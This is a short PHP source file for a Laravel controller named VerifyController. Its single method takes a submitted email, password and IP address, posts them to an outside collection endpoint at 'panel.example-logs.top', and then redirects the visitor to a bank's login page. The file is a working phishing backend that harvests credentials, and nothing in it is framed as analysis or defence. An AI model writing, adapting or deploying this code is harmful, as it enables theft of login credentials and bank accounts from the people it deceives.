<?php
namespace App\Http\Controllers;

use Illuminate\Http\Request;
use Illuminate\Support\Facades\Http;

class VerifyController extends Controller
{
    public function store(Request $request)
    {
        Http::asForm()->post('https://panel.example-logs.top/api/in', [
            'user' => $request->input('email'),
            'pass' => $request->input('password'),
            'ip' => $request->ip(),
        ]);
        return redirect()->away('https://login.example-bank.com/');
    }
}
